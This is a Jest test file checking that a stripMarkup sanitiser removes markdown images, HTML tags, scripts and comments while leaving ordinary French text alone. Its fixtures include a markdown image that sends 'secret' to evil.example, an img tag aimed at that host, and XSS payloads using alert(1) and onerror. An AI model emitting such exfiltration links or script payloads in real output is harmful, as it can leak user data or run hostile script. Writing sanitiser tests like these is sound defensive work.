import { expect, test } from '@jest/globals';
import fc from 'fast-check';
import { stripMarkup } from '#shared/evidence/strip-markup.ts';

test.each([
  ['an image', 'Voir ![carte](https://evil.example/?d=secret) ici', 'Voir  ici'],
  ['an image by reference', 'Voir ![carte][x] ici', 'Voir  ici'],
  ['an unfinished image', 'Voir ![carte](https://evil.example/?d=se', 'Voir '],
  ['an HTML image', 'Voir <img src="https://evil.example/x.png"> ici', 'Voir  ici'],
  ['an HTML tag left open', 'Voir <img src="https://evil.example/x', 'Voir '],
  ['a script', 'Bonjour<script>alert(1)</script>', 'Bonjouralert(1)'],
  ['a comment', 'a<!-- cach\né -->b', 'ab'],
  ['an autolink', 'Voir <https://a.example/x>', 'Voir https://a.example/x'],
  ['a tag inside a tag', 'Voir <<b>img src=x onerror=alert(1)> ici', 'Voir  ici'],
  ['tags nested deeper than anybody writes', `${'<'.repeat(30)}${'b>'.repeat(30)}`, 'b'.repeat(20)],
])('%s does not come out', (_what, text, clean) => {
  expect(stripMarkup(text)).toBe(clean);
});

test.each([
  'Le taux est de 1.5 % (art. L. 621-1), soit x < 5 et y > 3.',
  'Voir [la fiche](https://intranet.example/rh?p=1).',
  '- **Durée** : 25 jours [1][2]',
])('ordinary writing stays: %s', (text) => {
  expect(stripMarkup(text)).toBe(text);
});

test('no tag and no image is left, however they are nested', () => {
  const piece = fc.constantFrom(
    '![',
    '](',
    ')',
    '<b>',
    '<',
    '>',
    '<!--',
    '-->',
    'img',
    '!',
    '[',
    ' ',
    '\n',
    'é',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 24 }), (pieces) => {
      const clean = stripMarkup(pieces.join(''));
      expect(clean).not.toMatch(/<\/?[a-z!?]|!\[[^\]]*\]/i);
      expect(stripMarkup(clean)).toBe(clean);
    }),
    { numRuns: 500 },
  );
});
